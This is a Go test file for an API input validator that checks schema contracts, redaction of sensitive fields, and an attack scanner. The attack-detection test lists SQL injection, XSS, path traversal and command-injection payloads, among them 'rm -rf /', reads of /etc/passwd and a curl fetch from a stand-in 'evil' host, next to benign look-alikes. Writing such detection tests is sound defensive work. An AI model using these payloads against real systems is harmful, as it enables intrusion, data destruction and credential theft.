// ABOUTME: Tests for contract validation, adversarial scanning, and redaction
// ABOUTME: Includes the known injection payloads and benign look-alikes that must pass

package validate

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var searchContract = Contract{
	"addressContains": {Type: TypeString, MinLength: 2, MaxLength: 120},
	"neighborhood":    {Type: TypeString, MaxLength: 60},
	"minValue":        {Type: TypeNumber, Min: Bound(0)},
	"maxValue":        {Type: TypeNumber, Min: Bound(0)},
	"limit":           {Type: TypeInteger, Min: Bound(1), Max: Bound(100), Default: 25},
	"status":          {Type: TypeString, Enum: []string{"pending", "approved"}},
	"tags":            {Type: TypeArray, Items: &Param{Type: TypeString, MaxLength: 10}, MaxItems: 3},
	"active":          {Type: TypeBoolean},
	"parcelId":        {Type: TypeString, Required: true, MaxLength: 32},
}

// decode mimics how the HTTP layer decodes request bodies.
func decode(t *testing.T, body string) map[string]any {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(body))
	dec.UseNumber()
	var out map[string]any
	require.NoError(t, dec.Decode(&out))
	return out
}

func TestValidate_NormalizesValues(t *testing.T) {
	params, err := Validate(searchContract, decode(t, `{
		"parcelId": "P-100",
		"addressContains": "Oak",
		"minValue": 1000.5,
		"limit": 10,
		"tags": ["a", "b"],
		"active": true
	}`))
	require.NoError(t, err)

	assert.Equal(t, "P-100", params.String("parcelId"))
	limit, ok := params.Int("limit")
	assert.True(t, ok)
	assert.Equal(t, int64(10), limit)
	minValue, ok := params.Float("minValue")
	assert.True(t, ok)
	assert.Equal(t, 1000.5, minValue)
	assert.Equal(t, []any{"a", "b"}, params["tags"])
	active, _ := params.Bool("active")
	assert.True(t, active)
	assert.False(t, params.Has("maxValue"))
}

func TestValidate_AppliesDefaults(t *testing.T) {
	params, err := Validate(searchContract, map[string]any{"parcelId": "P-1"})
	require.NoError(t, err)

	limit, ok := params.Int("limit")
	require.True(t, ok)
	assert.Equal(t, int64(25), limit)
}

func TestValidate_CollectsAllViolations(t *testing.T) {
	_, err := Validate(searchContract, decode(t, `{
		"addressContains": "x",
		"minValue": -1,
		"limit": 2.5,
		"status": "rejected",
		"tags": ["ok", 7, "waytoolongvalue", "x"],
		"active": "yes",
		"extra": 1
	}`))
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrInvalidInput)

	var schemaErr *SchemaError
	require.True(t, errors.As(err, &schemaErr))

	fields := map[string]bool{}
	for _, v := range schemaErr.Violations {
		fields[v.Field] = true
	}
	for _, want := range []string{"extra", "parcelId", "addressContains", "minValue", "limit", "status", "tags", "tags[1]", "tags[2]", "active"} {
		assert.True(t, fields[want], "expected violation for %s, got %+v", want, schemaErr.Violations)
	}
}

func TestValidate_UnknownParameterRejected(t *testing.T) {
	_, err := Validate(searchContract, map[string]any{"parcelId": "P-1", "admin": true})

	var schemaErr *SchemaError
	require.True(t, errors.As(err, &schemaErr))
	require.Len(t, schemaErr.Violations, 1)
	assert.Equal(t, Violation{Field: "admin", Message: "unknown parameter"}, schemaErr.Violations[0])
}

func TestValidate_IntegerBounds(t *testing.T) {
	tests := []struct {
		name  string
		value any
		ok    bool
	}{
		{"json integer", json.Number("50"), true},
		{"float integral", 50.0, true},
		{"go int", 50, true},
		{"exponent integral", json.Number("1e2"), true},
		{"fraction", json.Number("1.5"), false},
		{"below min", json.Number("0"), false},
		{"above max", json.Number("101"), false},
		{"string", "50", false},
		{"huge", json.Number("1e300"), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Validate(searchContract, map[string]any{"parcelId": "P", "limit": tt.value})
			if tt.ok {
				assert.NoError(t, err)
			} else {
				assert.Error(t, err)
			}
		})
	}
}

func TestValidate_NullTreatedAsAbsent(t *testing.T) {
	_, err := Validate(searchContract, map[string]any{"parcelId": nil})

	var schemaErr *SchemaError
	require.True(t, errors.As(err, &schemaErr))
	assert.Equal(t, "is required", schemaErr.Violations[0].Message)
}

func TestValidate_DetectsAttacks(t *testing.T) {
	tests := []struct {
		name     string
		params   map[string]any
		category Category
		field    string
	}{
		{"sql tautology", map[string]any{"parcelId": "' OR '1'='1"}, CategorySQLInjection, "parcelId"},
		{"sql drop table", map[string]any{"parcelId": "P", "addressContains": "'; DROP TABLE"}, CategorySQLInjection, "addressContains"},
		{"sql union", map[string]any{"parcelId": "1 UNION SELECT password FROM users"}, CategorySQLInjection, "parcelId"},
		{"sql numeric tautology", map[string]any{"parcelId": "1 or 1=1"}, CategorySQLInjection, "parcelId"},
		{"sql comment", map[string]any{"parcelId": "admin'--"}, CategorySQLInjection, "parcelId"},
		{"script tag", map[string]any{"parcelId": "<script>alert(1)</script>"}, CategoryXSS, "parcelId"},
		{"event handler", map[string]any{"parcelId": `<a href=x onmouseover="x()">`}, CategoryXSS, "parcelId"},
		{"javascript url", map[string]any{"parcelId": "javascript:alert(1)"}, CategoryXSS, "parcelId"},
		{"shell chain", map[string]any{"parcelId": "P-1; rm -rf /"}, CategoryCommandInjection, "parcelId"},
		{"shell and-chain", map[string]any{"parcelId": "x && cat /etc/passwd"}, CategoryCommandInjection, "parcelId"},
		{"pipe to shell", map[string]any{"parcelId": "a | sh"}, CategoryCommandInjection, "parcelId"},
		{"fetch after separator", map[string]any{"parcelId": "foo; curl http://evil/x"}, CategoryCommandInjection, "parcelId"},
		{"bare recon command", map[string]any{"parcelId": "; whoami"}, CategoryCommandInjection, "parcelId"},
		{"shell subst", map[string]any{"parcelId": "$(whoami)"}, CategoryCommandInjection, "parcelId"},
		{"backticks", map[string]any{"parcelId": "`id`"}, CategoryCommandInjection, "parcelId"},
		{"dot dot slash", map[string]any{"parcelId": "../../etc/passwd"}, CategoryPathTraversal, "parcelId"},
		{"encoded traversal", map[string]any{"parcelId": "%2e%2e%2fsecret"}, CategoryPathTraversal, "parcelId"},
		{"absolute path", map[string]any{"parcelId": "/etc/shadow"}, CategoryPathTraversal, "parcelId"},
		{"windows path", map[string]any{"parcelId": `C:\Windows\system32`}, CategoryPathTraversal, "parcelId"},
		{"unknown param still scanned", map[string]any{"parcelId": "P", "zzz": "<script>"}, CategoryXSS, "zzz"},
		{"array item scanned", map[string]any{"parcelId": "P", "tags": []any{"ok", "../x"}}, CategoryPathTraversal, "tags[1]"},
		{"wrong type still scanned", map[string]any{"parcelId": "P", "limit": "1 OR 1=1"}, CategorySQLInjection, "limit"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Validate(searchContract, tt.params)
			require.Error(t, err)

			var attack *AttackError
			require.True(t, errors.As(err, &attack), "expected AttackError, got %v", err)
			assert.Equal(t, tt.category, attack.Category)
			assert.Equal(t, tt.field, attack.Field)

			// Callers never see the category.
			assert.Equal(t, "invalid input", err.Error())
			assert.NotContains(t, err.Error(), string(tt.category))
		})
	}
}

func TestValidate_BenignLookalikesPass(t *testing.T) {
	benign := []string{
		"O'Brien",
		"12 O'Connor Street",
		"Smith & Sons",
		"Lot 4; Block 2",
		"Sheridan Ave; Shelbyville",
		"1/2 acre parcel",
		"R-1 residential",
		"Values: 250,000 - 265,000",
		"Email me at pat@example.com",
		"Union Street",
		"Scriptwriter Lane",
		"Dog & Cat Clinic",
		"Smith & Id Holdings",
		"Roof | ls of damage",
		"Unit 3; Rm 12",
		"Bash Street; Perl Lane",
		"Shady Lane | Sh 14",
	}

	for _, s := range benign {
		t.Run(s, func(t *testing.T) {
			_, ok := Scan(s)
			assert.False(t, ok, "false positive for %q", s)
		})
	}
}

func TestScan_CategoryOrder(t *testing.T) {
	// Matches both SQL and command patterns; SQL is checked first.
	cat, ok := Scan("'; rm -rf /")
	require.True(t, ok)
	assert.Equal(t, CategorySQLInjection, cat)
}

func TestContract_Check(t *testing.T) {
	require.NoError(t, searchContract.Check())

	bad := []Contract{
		{"x": {Type: "object"}},
		{"x": {Type: TypeArray}},
		{"x": {Type: TypeArray, Items: &Param{Type: TypeArray, Items: &Param{Type: TypeString}}}},
		{"x": {Type: TypeNumber, Min: Bound(5), Max: Bound(1)}},
		{"x": {Type: TypeString, MinLength: 5, MaxLength: 1}},
		{"x": {Type: TypeString, Required: true, Default: "d"}},
		{"": {Type: TypeString}},
	}
	for i, c := range bad {
		assert.Error(t, c.Check(), "contract %d should be rejected", i)
	}
}

func TestRedact(t *testing.T) {
	contract := Contract{
		"parcelId": {Type: TypeString},
		"taxId":    {Type: TypeString, Sensitive: true},
	}
	in := map[string]any{"parcelId": "P-1", "taxId": "123-45-6789", "other": "x"}

	out := Redact(contract, in)
	assert.Equal(t, "P-1", out["parcelId"])
	assert.Equal(t, Redacted, out["taxId"])
	assert.Equal(t, "x", out["other"])
	// Input is not modified.
	assert.Equal(t, "123-45-6789", in["taxId"])

	assert.Nil(t, Redact(contract, nil))
}
